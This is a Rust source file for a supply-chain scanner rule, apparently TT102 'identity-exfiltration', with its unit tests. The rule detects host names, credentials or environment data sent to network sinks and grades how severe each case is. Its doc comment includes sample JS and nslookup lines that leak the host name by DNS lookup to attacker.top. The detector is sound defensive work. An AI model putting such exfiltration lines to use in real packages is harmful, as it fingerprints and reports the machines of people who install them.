use crate::{declare_rule, Category, RawFinding, Rule, RuleMeta, Severity};
use telltale_facts::{DataKind, FileFacts, Kinds, SinkKind};
use telltale_knowledge::vendors;

declare_rule! {
    /// ## What it detects
    /// Identity read on this machine (host name, user name, home directory, network
    /// interfaces, machine id, SSH key, credentials, the whole environment) reaching a network
    /// sink: an HTTP request, a DNS lookup, a socket, a beacon, or a network command such as
    /// `curl` or `nslookup`. The finding lists each step from the read to the send.
    ///
    /// ## Why it matters
    /// This is how malicious packages fingerprint and report the machines that install them,
    /// and how hidden tracking identifies users. Sent from an install script it is critical:
    /// it happens during `npm install`, before anyone ran the package. When every endpoint is
    /// a known telemetry vendor the finding is medium: disclosed telemetry, still worth a look.
    /// An installation id alone (a random id the program keeps on disk) is low: it links a
    /// user's events but reveals nothing of the machine. A path of the machine alone (the
    /// working or home directory) that reaches the request only through a long chain is
    /// medium: CLIs resolve every file they touch against these, and a chain of many values
    /// merged without telling branches apart is a lead to read, not an alarm. A git
    /// repository's address alone is medium: it names a project, and tools built around a forge
    /// send it to that forge.
    ///
    /// ## Example
    /// ```js
    /// const os = require("os");
    /// require("dns").lookup(`${os.hostname()}.attacker.top`, () => {});
    /// ```
    /// ```sh
    /// nslookup `hostname`.attacker.top
    /// ```
    IdentityExfiltration { id: "TT102", name: "identity-exfiltration", category: Category::Exfiltration, severity: Severity::High }
}

/// The longest chain from reading a path of the machine to a send that is reported high
/// (`fetch(url + process.cwd())` is two steps; a config object built and posted, five).
const MAX_SURE_PATH_STEPS: usize = 6;

impl Rule for IdentityExfiltration {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }
    fn check(&self, f: &FileFacts, out: &mut Vec<RawFinding>) {
        for flow in &f.flows {
            let identity = flow.kinds.identity();
            if identity.is_empty() {
                continue;
            }
            let what: Vec<&str> = identity.iter().map(|k| k.describe()).collect();
            let to = if flow.endpoints.is_empty() {
                String::new()
            } else {
                format!(" to {}", flow.endpoints.join(", "))
            };
            let mut r = RawFinding::new(
                &Self::META,
                flow.span,
                format!(
                    "sends {}{to} via {} ({})",
                    what.join(", "),
                    flow.sink_api,
                    flow.sink.describe()
                ),
            );
            // Documented collection by a telemetry vendor: reported, not alarmed.
            let to_vendor = !flow.endpoints.is_empty()
                && flow
                    .endpoints
                    .iter()
                    .all(|h| vendors::telemetry_vendor_for_host(h).is_some());
            if to_vendor || flow.to_telemetry || flow.sink == SinkKind::TelemetryAttribute {
                r.severity = Severity::Medium;
            }
            // An id the program made itself tells the receiver nothing about the machine: it
            // links events to one installation, which the label lists.
            if identity == Kinds::of(DataKind::InstallationId) {
                r.severity = Severity::Low;
            }
            let paths = DataKind::WorkingDirectory.bit() | DataKind::HomeDir.bit();
            if identity.0 & !paths == 0 && flow.steps.len() > MAX_SURE_PATH_STEPS {
                r.severity = r.severity.min(Severity::Medium);
            }
            // A repository's address names a project, not the machine or its user, and tools
            // that work with the forge it lives on (GitLab, GitHub) send it there by design.
            let project = paths | DataKind::RepositoryUrl.bit();
            if identity.contains(DataKind::RepositoryUrl) && identity.0 & !project == 0 {
                r.severity = r.severity.min(Severity::Medium);
            }
            r.evidence = what.iter().map(|s| s.to_string()).collect();
            r.evidence.extend(flow.steps.iter().map(|s| s.what.clone()));
            r.endpoints = flow.endpoints.clone();
            r.steps = flow.steps.clone();
            out.push(r);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::fixture::{facts, run};
    use telltale_facts::{FlowFact, Span};

    fn flow(kind: DataKind, host: &str) -> FlowFact {
        FlowFact {
            kinds: Kinds::of(kind),
            sink: SinkKind::Http,
            sink_api: "https.request".into(),
            span: Span::new(0, 1),
            endpoints: vec![host.into()],
            steps: vec![],
            gated_by: vec![],
            sent_before_check: false,
            to_telemetry: false,
        }
    }

    #[test]
    fn identity_to_unknown_host_is_high() {
        let mut f = facts();
        f.flows.push(flow(DataKind::Hostname, "x.robotnowai.top"));
        let out = run(&IdentityExfiltration, &f);
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].severity, Severity::High);
    }

    #[test]
    fn a_repository_address_alone_is_medium() {
        let mut f = facts();
        f.flows
            .push(flow(DataKind::RepositoryUrl, "x.robotnowai.top"));
        let mut with_host = flow(DataKind::RepositoryUrl, "x.robotnowai.top");
        with_host.kinds.insert(DataKind::Hostname);
        f.flows.push(with_host);
        let out = run(&IdentityExfiltration, &f);
        assert_eq!(out[0].severity, Severity::Medium);
        assert_eq!(out[1].severity, Severity::High);
    }

    #[test]
    fn identity_as_telemetry_attribute_is_medium() {
        let mut f = facts();
        let mut fl = flow(DataKind::Hostname, "x");
        fl.endpoints.clear();
        fl.sink = SinkKind::TelemetryAttribute;
        f.flows.push(fl);
        assert_eq!(run(&IdentityExfiltration, &f)[0].severity, Severity::Medium);
    }

    #[test]
    fn a_path_only_through_a_long_chain_is_medium() {
        let step = |i: u32| telltale_facts::Step {
            span: Span::new(i, i + 1),
            what: format!("step {i}"),
        };
        let mut f = facts();
        let mut short = flow(DataKind::WorkingDirectory, "t.example.top");
        short.steps = (0..3).map(step).collect();
        let mut long = short.clone();
        long.steps = (0..12).map(step).collect();
        let mut host = long.clone();
        host.kinds.insert(DataKind::Hostname);
        f.flows = vec![short, long, host];
        let sev: Vec<Severity> = run(&IdentityExfiltration, &f)
            .iter()
            .map(|r| r.severity)
            .collect();
        assert_eq!(sev, [Severity::High, Severity::Medium, Severity::High]);
    }

    #[test]
    fn an_installation_id_alone_is_low() {
        let mut f = facts();
        f.flows
            .push(flow(DataKind::InstallationId, "t.example.top"));
        assert_eq!(run(&IdentityExfiltration, &f)[0].severity, Severity::Low);
        let mut both = flow(DataKind::InstallationId, "t.example.top");
        both.kinds.insert(DataKind::Hostname);
        f.flows = vec![both];
        assert_eq!(run(&IdentityExfiltration, &f)[0].severity, Severity::High);
    }

    #[test]
    fn region_only_flow_is_not_identity_exfiltration() {
        let mut f = facts();
        f.flows.push(flow(DataKind::TimeZone, "x.example"));
        assert!(run(&IdentityExfiltration, &f).is_empty());
    }
}
